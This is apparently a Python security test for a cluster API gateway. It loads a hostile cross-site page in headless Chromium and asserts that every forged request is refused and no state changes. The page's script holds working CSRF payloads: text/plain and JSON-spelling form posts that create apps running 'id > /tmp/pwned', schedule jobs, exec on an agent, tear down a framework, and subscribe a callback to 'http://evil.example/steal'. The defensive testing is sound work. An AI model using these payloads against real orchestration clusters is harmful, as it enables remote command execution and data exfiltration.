"""A web page of another site, opened in a real headless Chromium, tries to act on the cluster
through the visitor's browser: `text/plain` posts (no preflight), a form whose fields spell
JSON, and body-less posts, against every API. Nothing is created, nothing is torn down."""

import http.server
import threading

from compat_util import wait_for
from test_web_ui import WAIT, browser  # noqa: F401 (the fixture)

ATTACK = """<!doctype html><html><body>
<form id="form" method="post" enctype="text/plain" target="sink" action="{agora}/v2/apps">
  <input name='{{"id": "/by-form", "cmd": "sleep 60", "cpus": 0.1, "mem": 16, "x": "' value='"}}'>
</form>
<iframe name="sink"></iframe>
<script>
const agora = "{agora}";
const app = JSON.stringify({{id: "/by-fetch", cmd: "id > /tmp/pwned", cpus: 0.1, mem: 16}});
const job = JSON.stringify({{name: "by-fetch", command: "id", schedule: "R1//PT1M", cpus: 0.1, mem: 16}});
const metronome = JSON.stringify({{id: "by-fetch", run: {{cmd: "id", cpus: 0.1, mem: 16}}}});
const plain = {{"Content-Type": "text/plain"}};
const attempts = [
  ["/v2/apps", app, plain],
  ["/v2/groups", JSON.stringify({{id: "/by-group", apps: [JSON.parse(app)]}}), plain],
  ["/scheduler/iso8601", job, plain],
  ["/v1/scheduler/iso8601", job, plain],
  ["/v1/jobs", metronome, plain],
  ["/api/v1", JSON.stringify({{type: "TEARDOWN", teardown: {{framework_id: {{value: "{framework}"}}}}}}), plain],
  ["/slave(1)/tasks/x/exec", JSON.stringify({{command: "id"}}), plain],
  ["/v2/eventSubscriptions?callbackUrl=http://evil.example/steal", null, {{}}],
  ["/master/teardown?frameworkId={framework}", null, {{}}],
  ["/v2/apps/anything/restart", null, {{}}],
];
Promise.allSettled(attempts.map(([path, body, headers]) =>
  fetch(agora + path, {{method: "POST", mode: "no-cors", headers, body}})))
  .then(() => {{
    document.getElementById("form").submit();
    document.title = "done";
  }});
</script></body></html>"""


def serve(page):
    """The other site: `page` on http://localhost:<port>/ (agora is on 127.0.0.1)."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = page.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def test_a_page_of_another_site_changes_nothing(agora, browser):  # noqa: F811
    state = agora.get_json("/master/state")
    framework = next(f["id"] for f in state["frameworks"] if f["name"] == "marathon")
    server = serve(ATTACK.format(agora=agora.url, framework=framework))
    try:
        browser.get("http://localhost:%d/" % server.server_address[1])
        wait_for("the page to finish its attempts", lambda: browser.title == "done", WAIT)
        # Every attempt reaches agora and is refused there (not merely lost on the way): the
        # form's post may still be on its way when the page says it is done.
        refusals = lambda: agora.log_tail(2000).count("request refused at the gate")  # noqa: E731
        try:
            wait_for("11 refusals at the gate", lambda: refusals() >= 11, WAIT)
        except AssertionError:
            raise AssertionError("%d refusals:\n%s" % (refusals(), agora.log_tail(2000)[-3000:]))
    finally:
        server.shutdown()
    assert agora.get_json("/v2/apps")["apps"] == []
    assert agora.get_json("/v2/groups")["groups"] == []
    assert agora.get_json("/scheduler/jobs") == []
    assert agora.get_json("/v1/jobs") == []
    assert agora.get_json("/v2/eventSubscriptions")["callbackUrls"] == []
    state = agora.get_json("/master/state")
    assert framework in [f["id"] for f in state["frameworks"]], "not torn down"
